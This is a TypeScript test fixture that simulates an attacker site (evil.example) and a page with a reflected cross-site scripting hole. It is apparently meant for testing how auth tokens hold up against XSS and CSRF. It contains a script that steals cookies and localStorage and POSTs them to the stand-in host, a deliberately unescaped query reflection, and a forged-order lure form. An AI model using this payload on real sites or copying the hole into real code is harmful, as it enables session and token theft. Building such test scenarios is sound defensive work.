import type { Aws } from '@cloud-orrery/vitest/scenario'

/** A page that someone else made, and what was sent to it. */
export interface Attacker {
  /** Lures a signed-in browser into ordering something. */
  readonly formPage: string
  /** What their script sent home. */
  readonly loot: { readonly cookies: string; readonly storage: Record<string, string> }[]
}

/** The script that gets into a page by a hole in it: sends home all that scripts can read. */
const script = `
const loot = { cookies: document.cookie, storage: { ...localStorage } }
fetch('https://evil.example/loot', { method: 'POST', mode: 'no-cors', body: JSON.stringify(loot) })
  .catch(() => {}).finally(() => { document.title = 'robbed' })
`

/** The same, for a page whose policy was got around: as if the hole were in a script of the page's own. */
export const injected = script

/** Puts evil.example into the model's internet. */
export function openAttacker(aws: Aws, orders: string): Attacker {
  const loot: Attacker['loot'] = []
  aws.internet.host('evil.example', ({ url, body }) => {
    const { pathname } = new URL(url)
    if (pathname === '/loot') {
      loot.push(JSON.parse(body))
      return answer('text/plain', '')
    }
    if (pathname === '/script.js') {
      return answer('text/javascript', script)
    }
    return html(`<h1>You have won</h1><form method="post" action="${orders}">
<input name="item" value="gold"><button>Take it</button></form>`)
  })
  return { formPage: 'https://evil.example/win', loot }
}

/** The other way to hold a token, beside ours: a page that keeps it in localStorage, with a hole of the usual kind. */
export function openStoragePage(aws: Aws): string {
  aws.internet.host('storage.example', ({ url }) => {
    const query = new URL(url).searchParams.get('q') ?? ''
    return html(`<h1>Results</h1><p>Nothing found for ${query}</p>`)
  })
  return 'https://storage.example/'
}

/** An address of that page that has the attacker's script in it. */
export function withHole(page: string): string {
  return `${page}?q=${encodeURIComponent('<script src="https://evil.example/script.js"></script>')}`
}

function html(body: string) {
  return answer('text/html', body)
}

function answer(type: string, body: string) {
  return { status: 200, headers: { 'content-type': type }, body }
}
